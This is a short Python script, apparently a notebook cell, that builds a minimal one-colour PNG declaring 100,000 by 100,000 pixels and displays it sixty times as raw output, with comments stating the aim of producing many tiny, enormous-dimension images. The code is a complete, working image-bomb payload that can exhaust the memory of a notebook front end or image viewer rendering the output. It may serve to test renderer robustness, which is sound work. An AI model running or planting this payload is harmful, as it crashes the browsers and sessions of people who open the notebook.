# output: pictures of a few bytes that are a hundred thousand pixels wide, and very many pictures
# place: last
import base64
import struct
import zlib


def png(width, height):
    """A PNG of one colour."""
    rows = zlib.compress(b"\0" * min(10**7, (width // 8 + 1) * height), 9)

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


bomb = base64.b64encode(png(100_000, 100_000)).decode()
for _ in range(60):
    display({"image/png": bomb, "text/plain": "x"}, raw=True)
